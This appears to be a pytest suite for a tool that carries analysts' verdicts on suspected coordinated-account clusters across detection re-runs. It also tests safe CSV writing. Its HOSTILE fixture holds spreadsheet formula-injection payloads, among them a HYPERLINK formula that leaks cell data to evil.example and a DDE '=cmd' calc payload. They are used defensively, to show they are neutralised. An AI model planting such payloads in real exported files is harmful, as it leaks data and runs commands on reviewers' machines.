"""The review file: verdicts that survive re-runs (cib.review)."""

from __future__ import annotations

import csv
import os
from types import SimpleNamespace

import pandas as pd
import pytest

import cib.review as review_mod
from cib.datasets import simulate
from cib.errors import InputError, OutputError
from cib.pipeline import detect
from cib.review import (REVIEW_COLUMNS, apply_review, carry_verdicts, read_review,
                        write_review)
from cib.scoring import stable_id

NOW = "2024-06-01T12:00:00Z"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+2", "-2", "@SUM(A1:A9)", "\tcmd", "\rcmd", "'=already quoted", "''=two quotes",
    "'not a formula", "line one\nline two", "crlf\r\nsplit", "  spaced  ", "NA", "null", "",
    'say "hi", then go; ok', "=1;2", "日本語 ✓",
]


def fake_run(groups: dict[int, list[str]]) -> SimpleNamespace:
    """A detection-like object with CLUSTERS (rank = order given) and MEMBERS."""
    clusters = pd.DataFrame({"cluster_id": list(groups), "rank": range(1, len(groups) + 1),
                             "stable_id": [stable_id(m) for m in groups.values()]})
    members = pd.DataFrame([(a, c) for c, accs in groups.items() for a in accs],
                           columns=["account_id", "cluster_id"])
    return SimpleNamespace(clusters=clusters, members=members)


def verdicts(*rows: tuple[list[str], str, str]) -> pd.DataFrame:
    """A review table from (members, status, note)."""
    return pd.DataFrame({"stable_id": [stable_id(m) for m, _, _ in rows],
                         "status": [s for _, s, _ in rows], "note": [n for _, _, n in rows],
                         "reviewer": "ana", "time": "2024-05-01T09:00:00Z",
                         "members": [" ".join(sorted(m)) for m, _, _ in rows]})


@pytest.fixture(scope="module")
def runs():
    """Two real runs: the second has one more account in the top cluster (a clone of a member)."""
    actions, _ = simulate(n_accounts=300, n_groups=2, seed=2)
    det1 = detect(actions, n_null=20)
    top = det1.clusters.iloc[0]
    src = sorted(det1.members.loc[det1.members["cluster_id"] == top["cluster_id"], "account_id"])[0]
    clone = actions[actions["account_id"] == src].copy()
    clone["account_id"] = "u99999"
    clone["action_id"] = "clone-" + clone["action_id"]
    clone["timestamp"] = clone["timestamp"] + pd.Timedelta(seconds=2)
    actions2 = pd.concat([actions, clone], ignore_index=True).sort_values(
        ["timestamp", "account_id", "action_id"], kind="mergesort", ignore_index=True)
    det2 = detect(actions2, n_null=20)
    return det1, det2


def members_of(det, cluster_id: int) -> list[str]:
    return sorted(det.members.loc[det.members["cluster_id"] == cluster_id, "account_id"])


# ---------------------------------------------------------------------------------------------
# The life of a review file
# ---------------------------------------------------------------------------------------------

def test_first_run_creates_the_file_with_unreviewed_rows(runs, tmp_path):
    det1, _ = runs
    path = tmp_path / "review.csv"
    table = apply_review(det1, path, now=NOW)
    assert path.exists() and not (tmp_path / "review.csv.bak").exists()
    back = read_review(path)
    pd.testing.assert_frame_equal(back, table, check_dtype=False)
    assert back.columns.tolist() == REVIEW_COLUMNS
    assert len(back) == len(det1.clusters)
    assert (back["status"] == "unreviewed").all() and back["matched"].all()
    assert (back["note"] == "").all() and (back["time"] == "").all()
    assert back["cluster_id"].tolist() == det1.clusters["cluster_id"].tolist()  # rank order
    assert back["stable_id"].tolist() == det1.clusters["stable_id"].tolist()
    for r in back.itertuples():
        assert r.members.split() == members_of(det1, r.cluster_id)
        assert stable_id(r.members.split()) == r.stable_id


def test_verdict_survives_a_rerun_with_one_more_account(runs, tmp_path):
    det1, det2 = runs
    path = tmp_path / "review.csv"
    apply_review(det1, path, now=NOW)
    # the analyst edits the file in a spreadsheet-like way (plain CSV, no quoting, no time)
    edited = pd.read_csv(path, dtype=str, keep_default_na=False)
    top_sid = det1.clusters["stable_id"].iloc[0]
    second_sid = det1.clusters["stable_id"].iloc[1]
    edited.loc[edited["stable_id"] == top_sid, ["status", "note", "reviewer"]] = \
        ["Confirmed", "same copypasta, same minute", "ana"]
    edited.loc[edited["stable_id"] == second_sid, ["status", "note"]] = ["dismissed", "fan club"]
    edited.to_csv(path, index=False)
    before = path.read_bytes()

    table = apply_review(det2, path, now=NOW)
    top2 = det2.clusters.iloc[0]
    assert top2["stable_id"] != top_sid  # one more member: a new content hash
    row = table[table["cluster_id"] == top2["cluster_id"]].iloc[0]
    assert row["matched"] and row["status"] == "confirmed" and row["reviewer"] == "ana"
    assert row["note"] == "same copypasta, same minute"
    assert row["stable_id"] == top2["stable_id"] and row["previous_stable_id"] == top_sid
    n = len(members_of(det1, det1.clusters["cluster_id"].iloc[0]))
    assert row["jaccard"] == pytest.approx(n / (n + 1)) and row["jaccard"] >= 0.5
    assert "u99999" in row["members"].split()
    assert row["time"] == NOW  # left empty by the analyst: stamped when cib first read it
    # the other verdict follows its cluster, whether or not the re-run changed that cluster
    follows = table[(table["stable_id"] == second_sid) | (table["previous_stable_id"] == second_sid)]
    assert len(follows) == 1
    other = follows.iloc[0]
    assert other["status"] == "dismissed" and other["note"] == "fan club"
    if other["stable_id"] == second_sid:
        assert other["previous_stable_id"] == "" and pd.isna(other["jaccard"])
    else:
        assert other["jaccard"] >= 0.5
    assert table["matched"].all() and len(table) == len(det2.clusters)
    # the file was rewritten, the analyst's version kept as the backup
    assert (tmp_path / "review.csv.bak").read_bytes() == before
    pd.testing.assert_frame_equal(read_review(path), table)
    # a run on the same data again changes nothing, and the backup is kept
    mtime = path.stat().st_mtime_ns
    again = apply_review(det2, path, now="2030-01-01")
    pd.testing.assert_frame_equal(again, table)
    assert path.stat().st_mtime_ns == mtime
    assert (tmp_path / "review.csv.bak").read_bytes() == before


def test_verdicts_reach_the_report(runs, tmp_path):
    det1, _ = runs
    path = tmp_path / "review.csv"
    table = apply_review(det1, path, now=NOW)
    table.loc[0, ["status", "note"]] = ["confirmed", "<b>seen</b>"]
    write_review(path, table)
    table = apply_review(det1, path, now=NOW)
    html = det1.report_html(review=table[table["matched"]])
    assert "&lt;b&gt;seen&lt;/b&gt;" in html or "\\u003cb\\u003eseen" in html


def test_a_cluster_changed_beyond_recognition_starts_unreviewed():
    old = verdicts((["a", "b", "c", "d"], "confirmed", "bots"))
    run = fake_run({0: ["a", "e", "f", "g"], 1: ["x", "y"]})
    out = carry_verdicts(old, run.clusters, run.members, now=NOW)
    assert out["matched"].tolist() == [True, True, False]  # unmatched verdicts come last
    new0 = out.iloc[0]
    assert new0["status"] == "unreviewed" and new0["note"] == "" and new0["cluster_id"] == 0
    assert new0["members"] == "a e f g" and new0["previous_stable_id"] == ""
    kept = out.iloc[2]
    assert kept["status"] == "confirmed" and kept["note"] == "bots" and kept["cluster_id"] == -1
    assert kept["stable_id"] == stable_id(["a", "b", "c", "d"]) and kept["members"] == "a b c d"
    assert kept["time"] == "2024-05-01T09:00:00Z"
    # and it stays on later runs, and comes back when its cluster does
    again = carry_verdicts(out, run.clusters, run.members, now=NOW)
    assert again["note"].tolist() == ["", "", "bots"]
    back = fake_run({5: ["a", "b", "c", "d", "z"]})
    revived = carry_verdicts(again, back.clusters, back.members, now=NOW)
    assert revived.iloc[0]["status"] == "confirmed" and revived.iloc[0]["cluster_id"] == 5
    assert revived.iloc[0]["jaccard"] == pytest.approx(0.8)


def test_the_best_overlap_wins_and_the_other_verdict_stays_unmatched():
    old = verdicts((["a", "b"], "dismissed", "weak"),            # J = 2/4 with the new cluster
                   (["a", "b", "c"], "confirmed", "strong"))     # J = 3/4
    run = fake_run({3: ["a", "b", "c", "d"]})
    out = carry_verdicts(old, run.clusters, run.members, now=NOW)
    assert out["note"].tolist() == ["strong", "weak"]
    assert out["matched"].tolist() == [True, False]
    assert out.iloc[0]["jaccard"] == 0.75 and out.iloc[0]["cluster_id"] == 3
    assert out.iloc[1]["cluster_id"] == -1 and pd.isna(out.iloc[1]["jaccard"])
    # the order of the rows in the file does not matter
    flipped = carry_verdicts(old.iloc[::-1].reset_index(drop=True), run.clusters, run.members,
                             now=NOW)
    pd.testing.assert_frame_equal(flipped, out)


def test_ties_are_broken_by_stable_id_then_cluster_id():
    # two verdicts with the same overlap (J = 3/5) with one cluster: the smaller stable_id wins
    v1, v2 = ["a", "b", "p", "q"], ["a", "b", "r", "s"]
    old = verdicts((v1, "confirmed", "one"), (v2, "dismissed", "two"))
    run = fake_run({0: ["a", "b", "p", "r"]})
    j = carry_verdicts(old, run.clusters, run.members, now=NOW)
    winner = min([(stable_id(v1), "one"), (stable_id(v2), "two")])[1]
    assert j.iloc[0]["note"] == winner and j.iloc[0]["jaccard"] == pytest.approx(3 / 5)
    # one verdict, two clusters with the same overlap: the smaller cluster_id wins
    old = verdicts((["a", "b", "c", "d"], "confirmed", "x"))
    run = fake_run({7: ["a", "b", "c", "e"], 2: ["d", "a2", "b2", "c2"], 4: ["a", "b", "c", "f"]})
    out = carry_verdicts(old, run.clusters, run.members, now=NOW)
    assert out.loc[out["note"] == "x", "cluster_id"].tolist() == [4]


def test_a_verdict_goes_to_one_cluster_only_and_below_half_is_no_match():
    old = verdicts((["a", "b", "c", "d"], "confirmed", "x"))
    run = fake_run({0: ["a", "b", "c", "d", "e"], 1: ["a2", "b2"]})
    out = carry_verdicts(old, run.clusters, run.members, now=NOW)
    assert out["note"].tolist() == ["x", ""]
    run = fake_run({0: ["a", "b", "e", "f", "g"]})  # J = 2/7
    out = carry_verdicts(old, run.clusters, run.members, now=NOW)
    assert out["matched"].tolist() == [True, False] and out.iloc[1]["note"] == "x"


def test_blank_placeholders_that_match_nothing_are_dropped():
    old = pd.DataFrame({"stable_id": [stable_id(["a", "b"]), stable_id(["c", "d"])],
                        "status": ["unreviewed", "unreviewed"], "note": ["", "look again"],
                        "members": ["a b", "c d"]})
    run = fake_run({0: ["x", "y"]})
    out = carry_verdicts(old, run.clusters, run.members, now=NOW)
    assert out["note"].tolist() == ["", "look again"]  # the blank placeholder is gone
    out = carry_verdicts(old, run.clusters, run.members, now=NOW, keep_placeholders=True)
    assert len(out) == 3


def test_a_hand_made_file_matches_by_stable_id(tmp_path):
    run = fake_run({0: ["a", "b", "c"], 1: ["d", "e"]})
    path = tmp_path / "review.csv"
    sid = run.clusters["stable_id"].iloc[1]
    path.write_text(f"stable_id,status,note,priority\n{sid},CONFIRMED ,seen,high\n",
                    encoding="utf-8")
    table = apply_review(run, path, now=NOW)
    row = table[table["cluster_id"] == 1].iloc[0]
    assert row["status"] == "confirmed" and row["note"] == "seen" and row["matched"]
    assert row["members"] == "d e"  # filled in from the run
    assert row["priority"] == "high" and row["time"] == NOW  # extra columns are carried
    assert table.columns.tolist() == REVIEW_COLUMNS + ["priority"]
    assert read_review(path)["priority"].tolist() == ["", "high"]


def test_excel_style_files_are_read(tmp_path):
    """A UTF-8 BOM and a ';' separator (spreadsheets in some locales)."""
    path = tmp_path / "review.csv"
    path.write_bytes("\ufeffstable_id;status;note\r\nabc;dismissed;\"a; b\"\r\n".encode("utf-8"))
    r = read_review(path)
    assert r[["stable_id", "status", "note"]].values.tolist() == [["abc", "dismissed", "a; b"]]


# ---------------------------------------------------------------------------------------------
# Writing safely
# ---------------------------------------------------------------------------------------------

def test_hostile_notes_round_trip_exactly_and_are_defused(tmp_path):
    run = fake_run({i: [f"a{i}", f"b{i}"] for i in range(len(HOSTILE))})
    table = carry_verdicts(pd.DataFrame({"stable_id": [], "status": []}), run.clusters,
                           run.members, now=NOW)
    table["status"] = "confirmed"
    table["note"] = HOSTILE
    table["reviewer"] = ["=cmd|' /C calc'!A0"] + ["-bob"] * (len(HOSTILE) - 1)
    path = tmp_path / "review.csv"
    write_review(path, table)
    back = read_review(path)
    assert back["note"].tolist() == HOSTILE
    assert back["reviewer"].tolist() == table["reviewer"].tolist()
    pd.testing.assert_frame_equal(back, table, check_dtype=False)
    # as a spreadsheet sees the file: no cell starts a formula
    with open(path, encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(" in path.read_text(encoding="utf-8")
    # writing what was read gives the same bytes
    data = path.read_bytes()
    write_review(tmp_path / "again.csv", back)
    assert (tmp_path / "again.csv").read_bytes() == data


def test_parquet_review_files(tmp_path):
    run = fake_run({0: ["a", "b"], 1: ["c", "d"]})
    path = tmp_path / "review.parquet"
    table = apply_review(run, path, now=NOW)
    table.loc[1, ["status", "note"]] = ["confirmed", "=raw, not neutralised"]
    write_review(path, table)
    back = read_review(path)
    pd.testing.assert_frame_equal(back, table, check_dtype=False)
    assert pd.read_parquet(path)["note"].tolist()[1] == "=raw, not neutralised"
    assert (tmp_path / "review.parquet.bak").exists()


def test_backup_holds_the_previous_file(tmp_path):
    run = fake_run({0: ["a", "b"]})
    path = tmp_path / "review.csv"
    t1 = apply_review(run, path, now=NOW)
    first = path.read_bytes()
    t1.loc[0, "status"] = "dismissed"
    write_review(path, t1)
    second = path.read_bytes()
    assert (tmp_path / "review.csv.bak").read_bytes() == first
    t1.loc[0, "note"] = "changed my mind"
    write_review(path, t1)
    assert (tmp_path / "review.csv.bak").read_bytes() == second
    assert sorted(os.listdir(tmp_path)) == ["review.csv", "review.csv.bak"]  # no temp files


def test_a_failure_mid_write_leaves_the_old_file_intact(tmp_path, monkeypatch):
    run = fake_run({0: ["a", "b"], 1: ["c", "d"]})
    path = tmp_path / "review.csv"
    table = apply_review(run, path, now=NOW)
    table.loc[0, ["status", "note"]] = ["confirmed", "keep me"]
    write_review(path, table)
    good = path.read_bytes()
    table.loc[0, "note"] = "x" * 10_000

    real = review_mod._write_all
    calls = []

    def crash_on_the_new_file(fh, data):
        calls.append(len(data))
        if len(calls) == 2:  # 1: the backup, 2: the new file
            fh.write(data[: len(data) // 2])
            fh.flush()
            raise OSError(28, "No space left on device")
        real(fh, data)

    monkeypatch.setattr(review_mod, "_write_all", crash_on_the_new_file)
    with pytest.raises(OutputError, match="No space left"):
        write_review(path, table)
    assert path.read_bytes() == good
    assert read_review(path)["note"].tolist()[0] == "keep me"
    assert sorted(os.listdir(tmp_path)) == ["review.csv", "review.csv.bak"]

    # the same when the final rename fails
    monkeypatch.setattr(review_mod, "_write_all", real)

    def no_replace(src, dst):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(review_mod.os, "replace", no_replace)
    with pytest.raises(OutputError, match="Permission denied"):
        write_review(path, table)
    assert path.read_bytes() == good
    assert sorted(os.listdir(tmp_path)) == ["review.csv", "review.csv.bak"]


# ---------------------------------------------------------------------------------------------
# Reading: errors a user can make
# ---------------------------------------------------------------------------------------------

def test_a_missing_file_is_an_empty_review(tmp_path):
    r = read_review(tmp_path / "none.csv")
    assert r.empty and r.columns.tolist() == REVIEW_COLUMNS
    (tmp_path / "empty.csv").write_text("")
    assert read_review(tmp_path / "empty.csv").empty


@pytest.mark.parametrize("text, row, column, words", [
    ("stable_id,status\nabc,confirmed\ndef,maybe\n", 3, "status", "unknown status 'maybe'"),
    ("stable_id,note\nabc,x\n", None, "status", "missing required column"),
    ("status,note\nconfirmed,x\n", None, "stable_id", "missing required column"),
    ("stable_id,status,time\nabc,confirmed,yesterday\n", 2, "time", "cannot read the time"),
    ("stable_id,status,matched\nabc,confirmed,perhaps\n", 2, "matched", "true or false"),
    ("stable_id,status,cluster_id\nabc,confirmed,x\n", 2, "cluster_id", "whole number"),
    ("stable_id,status\n,confirmed\n", 2, "stable_id", "needs a stable_id"),
])
def test_bad_review_files_name_file_row_and_column(tmp_path, text, row, column, words):
    path = tmp_path / "my-review.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InputError) as info:
        read_review(path)
    err = info.value
    assert err.file == str(path) and err.row == row and err.column == column
    assert words in str(err) and "my-review.csv" in str(err)


def test_not_utf8_is_an_input_error(tmp_path):
    path = tmp_path / "review.csv"
    path.write_bytes("stable_id,status,note\nabc,confirmed,caf\xe9\n".encode("latin-1"))
    with pytest.raises(InputError, match="UTF-8"):
        read_review(path)


def test_times_are_normalised_to_utc(tmp_path):
    path = tmp_path / "review.csv"
    path.write_text("stable_id,status,time\na,confirmed,2024-05-01 11:30:00+02:00\n"
                    "b,dismissed,2024-05-01T09:30:00\n", encoding="utf-8")
    assert read_review(path)["time"].tolist() == ["2024-05-01T09:30:00Z", "2024-05-01T09:30:00Z"]


def test_a_member_list_without_stable_id_gets_its_hash():
    r = carry_verdicts(pd.DataFrame({"stable_id": [None], "status": ["confirmed"],
                                     "members": [["b", "a"]]}),
                       fake_run({}).clusters, fake_run({}).members, now=NOW)
    assert r["stable_id"].tolist() == [stable_id(["a", "b"])] and not r["matched"].any()
